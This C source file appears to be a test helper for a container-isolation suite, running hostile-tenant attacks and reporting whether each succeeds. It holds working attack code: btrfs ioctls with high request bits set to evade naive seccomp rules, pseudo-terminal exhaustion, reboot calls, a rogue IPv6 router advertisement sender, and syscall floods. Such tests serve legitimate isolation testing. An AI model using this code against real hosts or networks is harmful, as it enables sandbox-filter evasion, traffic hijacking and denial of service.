/*
 * Attacks a hostile tenant runs inside its VE, for HostileTenantIT. Built static by the test (gcc -static), so it
 * runs in any template. Prints "ok" or "errno N" and exits 0 on success, 1 on failure.
 *
 *   vessel-attack subvol DIR NAME [high]        BTRFS_IOC_SUBVOL_CREATE in DIR
 *   vessel-attack snap SOURCE DIR NAME [high]   BTRFS_IOC_SNAP_CREATE_V2 of SOURCE as DIR/NAME
 *   vessel-attack ptys N SECONDS                open up to N pseudo-terminals, print how many, hold them SECONDS
 *   vessel-attack io_uring                      io_uring_setup
 *   vessel-attack reboot|poweroff               reboot(2), as systemd calls it at the end of a shutdown
 *   vessel-attack ra IFACE                      three IPv6 router advertisements (prefix 2001:db8:bad::/64, default
 *                                               router) to all nodes on IFACE, as a rogue router would send
 *   vessel-attack statfs-fault                  statfs(2) with an unwritable buffer, an unreadable path and a path
 *                                               without an end; prints each result and errno
 *   vessel-attack statfs-flood N                N statfs("/") calls; prints the time per call and the size seen
 *   vessel-attack read-flood N FILE             N times open, read (up to 64 KiB) and close FILE; prints the time per round
 *
 * "high" sets the upper 32 bits of the ioctl request: the kernel ignores them, a naive seccomp rule does not.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <netinet/icmp6.h>
#include <arpa/inet.h>
#include <net/if.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/statfs.h>
#include <time.h>
#include <sys/syscall.h>
#include <unistd.h>

#define BTRFS_IOC_SUBVOL_CREATE 0x5000940eUL
#define BTRFS_IOC_SNAP_CREATE_V2 0x50009417UL

static int report(long rc) {
    if (rc < 0) {
        printf("errno %d\n", errno);
        return 1;
    }
    printf("ok\n");
    return 0;
}

static unsigned long request(unsigned long base, int argc, char **argv, int at) {
    return argc > at && strcmp(argv[at], "high") == 0 ? base | 0xffffffff00000000UL : base;
}

int main(int argc, char **argv) {
    if (argc >= 4 && strcmp(argv[1], "subvol") == 0) {
        char args[4096];
        memset(args, 0, sizeof args);
        strncpy(args + 8, argv[3], 4000);
        int dir = open(argv[2], O_RDONLY | O_DIRECTORY);
        if (dir < 0) return report(-1);
        return report(syscall(SYS_ioctl, dir, request(BTRFS_IOC_SUBVOL_CREATE, argc, argv, 4), args));
    }
    if (argc >= 5 && strcmp(argv[1], "snap") == 0) {
        char args[4096];
        memset(args, 0, sizeof args);
        int source = open(argv[2], O_RDONLY | O_DIRECTORY);
        int dir = open(argv[3], O_RDONLY | O_DIRECTORY);
        if (source < 0 || dir < 0) return report(-1);
        *(int64_t *) args = source;
        strncpy(args + 56, argv[4], 4000);
        return report(syscall(SYS_ioctl, dir, request(BTRFS_IOC_SNAP_CREATE_V2, argc, argv, 5), args));
    }
    if (argc >= 4 && strcmp(argv[1], "ptys") == 0) {
        int wanted = atoi(argv[2]), opened = 0;
        struct rlimit files;
        getrlimit(RLIMIT_NOFILE, &files);
        files.rlim_cur = files.rlim_max; /* the descriptor limit is not what this measures */
        setrlimit(RLIMIT_NOFILE, &files);
        while (opened < wanted) {
            int fd = open("/dev/ptmx", O_RDWR | O_NOCTTY);
            if (fd < 0) break;
            opened++;
        }
        printf("%d\n", opened);
        fflush(stdout);
        sleep(atoi(argv[3]));
        return 0;
    }
    if (argc >= 2 && strcmp(argv[1], "io_uring") == 0) {
        char params[120];
        memset(params, 0, sizeof params);
        return report(syscall(425 /* io_uring_setup */, 4, params));
    }
    if (argc >= 2 && strcmp(argv[1], "reboot") == 0) {
        return report(reboot(RB_AUTOBOOT));
    }
    if (argc >= 2 && strcmp(argv[1], "poweroff") == 0) {
        return report(reboot(RB_POWER_OFF));
    }
    if (argc >= 3 && strcmp(argv[1], "ra") == 0) {
        int s = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
        if (s < 0) return report(-1);
        int hops = 255;
        setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
        setsockopt(s, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &hops, sizeof hops);
        unsigned int index = if_nametoindex(argv[2]);
        setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_IF, &index, sizeof index);
        unsigned char ra[48];
        memset(ra, 0, sizeof ra);
        ra[0] = ND_ROUTER_ADVERT;
        ra[4] = 64;                              /* current hop limit */
        ra[6] = 0x07; ra[7] = 0x08;              /* router lifetime 1800 s: "use me as default router" */
        ra[16] = ND_OPT_PREFIX_INFORMATION; ra[17] = 4; ra[18] = 64; ra[19] = 0xc0;
        ra[20] = 0x00; ra[21] = 0x01; ra[22] = 0x51; ra[23] = 0x80;  /* valid lifetime 86400 */
        ra[24] = 0x00; ra[25] = 0x00; ra[26] = 0x38; ra[27] = 0x40;  /* preferred lifetime 14400 */
        inet_pton(AF_INET6, "2001:db8:bad::", ra + 32);
        struct sockaddr_in6 to;
        memset(&to, 0, sizeof to);
        to.sin6_family = AF_INET6;
        to.sin6_scope_id = index;
        inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
        long rc = 0;
        for (int i = 0; i < 3 && rc >= 0; i++) {
            rc = sendto(s, ra, sizeof ra, 0, (struct sockaddr *) &to, sizeof to);
            usleep(100000);
        }
        return report(rc);
    }
    if (argc >= 2 && strcmp(argv[1], "statfs-fault") == 0) {
        struct statfs st;
        long unwritable = syscall(SYS_statfs, "/", (void *) 16);
        int e1 = errno;
        long unreadable = syscall(SYS_statfs, (char *) 16, &st);
        int e2 = errno;
        char *endless = malloc(3 * 4096);
        memset(endless, 'a', 3 * 4096);
        long too_long = syscall(SYS_statfs, endless, &st);
        int e3 = errno;
        printf("%ld %d %ld %d %ld %d\n", unwritable, e1, unreadable, e2, too_long, e3);
        return 0;
    }
    if (argc >= 3 && strcmp(argv[1], "statfs-flood") == 0) {
        long n = atol(argv[2]);
        struct statfs st;
        struct timespec start, end;
        clock_gettime(CLOCK_MONOTONIC, &start);
        for (long i = 0; i < n; i++) {
            if (statfs("/", &st) < 0) return report(-1);
        }
        clock_gettime(CLOCK_MONOTONIC, &end);
        long ns = (end.tv_sec - start.tv_sec) * 1000000000L + (end.tv_nsec - start.tv_nsec);
        printf("ok %ld ns per call, %llu bytes\n", ns / (n > 0 ? n : 1), (unsigned long long) st.f_blocks * st.f_bsize);
        return 0;
    }
    if (argc >= 4 && strcmp(argv[1], "read-flood") == 0) {
        long n = atol(argv[2]);
        static char buffer[65536];
        struct timespec start, end;
        clock_gettime(CLOCK_MONOTONIC, &start);
        for (long i = 0; i < n; i++) {
            int fd = open(argv[3], O_RDONLY);
            if (fd < 0 || read(fd, buffer, sizeof buffer) < 0) return report(-1);
            close(fd);
        }
        clock_gettime(CLOCK_MONOTONIC, &end);
        long ns = (end.tv_sec - start.tv_sec) * 1000000000L + (end.tv_nsec - start.tv_nsec);
        printf("ok %ld ns per read\n", ns / (n > 0 ? n : 1));
        return 0;
    }
    fprintf(stderr, "usage: see the comment at the top of vessel-attack.c\n");
    return 2;
}
